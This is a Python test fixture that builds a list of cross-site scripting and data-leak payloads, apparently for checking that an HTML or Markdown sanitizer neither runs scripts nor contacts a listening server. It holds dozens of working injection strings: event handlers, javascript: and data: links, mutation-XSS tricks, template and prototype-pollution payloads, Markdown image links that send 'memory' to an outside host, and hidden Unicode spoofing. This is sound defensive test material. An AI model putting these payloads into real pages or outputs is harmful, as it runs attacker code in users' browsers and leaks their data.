"""What somebody may write to get a script to run, or a request to leave: `{sink}` is where to, `{run}` what to run."""

RUN = "pwned()"

# One a line; ↵ begins a new one within it.
_CASES = r"""
<script>{run}</script>
<script src="{sink}/a.js"></script>
<ScRiPt >{run}</sCrIpT >
<script type="module">import "{sink}/b.js"</script>
<img src=x onerror="{run}">
<img src="{sink}/c.png">
<img srcset="{sink}/d.png 2x" src="data:,">
<svg onload="{run}"></svg>
<svg><script>{run}</script></svg>
<svg><image href="{sink}/e.png"/></svg>
<svg><use href="{sink}/f.svg#x"/></svg>
<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">
<noscript><p title="</noscript><img src=x onerror={run}>">
<iframe src="{sink}/g"></iframe>
<iframe srcdoc="<script>parent.{run}</script>"></iframe>
<iframe src="javascript:parent.{run}"></iframe>
<object data="{sink}/h"></object>
<embed src="{sink}/i">
<video src="{sink}/j.mp4" autoplay poster="{sink}/k.png"></video>
<audio src="{sink}/l.mp3" autoplay onloadstart="{run}"></audio>
<link rel="stylesheet" href="{sink}/m.css">
<link rel="dns-prefetch" href="{sink}"><link rel="prefetch" href="{sink}/n">
<style>@import url("{sink}/o.css"); * {{ background: url("{sink}/p.png") }}</style>
<div style="background-image:url({sink}/q.png)">seen</div>
<div style="behavior:url({sink}/r)" onclick="{run}" onmouseover="{run}">touch me</div>
<meta http-equiv="refresh" content="0;url={sink}/s">
<base href="{sink}/">
<form action="{sink}/t"><input name=q autofocus onfocus="{run}"><button>Send</button></form>
<input type="image" src="{sink}/u.png" autofocus>
<details open ontoggle="{run}"><summary>x</summary></details>
<body onload="{run}" background="{sink}/v.png">
<marquee onstart="{run}">news</marquee>
<a href="javascript:{run}">a link</a>
<a href="{sink}/w" ping="{sink}/x">a link with a ping</a>
<template><img src=x onerror="{run}"></template>
<x-element onfocus="{run}" tabindex=0 autofocus></x-element>
<table background="{sink}/y.png"><tr><td>cell</td></tr></table>
<!--<img src="{sink}/z.png"><script>{run}</script>-->
<![CDATA[<script>{run}</script>]]>
<?xml version="1.0"?><html xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{run}</h:script>
[a link](javascript:{run})
[a link](  JaVaScRiPt:{run})
[a link](java↵script:{run})
[a link](&#106;avascript:{run})
[a link](javascript&colon;{run})
[a link](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)
[a link](vbscript:{run})
[a link](blob:{sink}/blob)
[a link](file:///etc/passwd)
<javascript:{run}>
[a link]({sink}/aa "title" onmouseover="{run}")
![a picture]({sink}/ab.png)
![a picture](//{host}/ac.png)
![a picture](javascript:{run})
![a picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiIHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyIvPg==)
![a picture][there]↵↵[there]: {sink}/ad.png?memory=everything
[![a picture in a link]({sink}/ae.png)](javascript:{run})
```"><img src=x onerror={run}>↵code↵```
```js onmouseover={run} style=background:url({sink}/af.png)↵code↵```
| a | b |↵|---|---|↵| <img src=x onerror={run}> | ![x]({sink}/ag.png) |
- [ ] <input onfocus={run} autofocus> ![x]({sink}/ah.png)
# <svg/onload={run}> heading {{#id onload={run}}}
Footnote[^1]↵↵[^1]: <img src={sink}/ai.png>
<https://example.org/"onmouseover="{run}>
https://example.org/"><img/src=x/onerror={run}>
`<img src=x onerror={run}>`
${{globalThis.{run}}} {{{{constructor.constructor('{run}')()}}}} #{{{run}}}
<!--lit-part--><!--?lit$000000000$--><img src=x onerror={run}><!--/lit-part-->
{{"__proto__": {{"polluted": true}}, "constructor": {{"prototype": {{"polluted": true}}}}}}
\u003cimg src=x onerror={run}\u003e &lt;img src=x onerror={run}&gt;
'"--></style></script></textarea></title></select><svg onload={run}>
"><script>{run}</script> ' onfocus='{run}' autofocus='
</script><script>{run}</script>
data:text/html,<script>{run}</script>
[safe‮gpj.exe](https://example.org)​‍󠁡󠁢
@import url({sink}/aj.css);
url({sink}/ak.png) image-set("{sink}/al.png" 1x)
[31mred[0m ]8;;{sink}/am\link]8;;\
"""


def cases(sink: str) -> list[str]:
    """All of them, with the address of a server that must hear nothing."""
    host = sink.removeprefix("http://")
    lines = _CASES.strip("\n").split("\n")
    return [line.replace("↵", "\n").format(sink=sink, host=host, run=RUN) for line in lines]
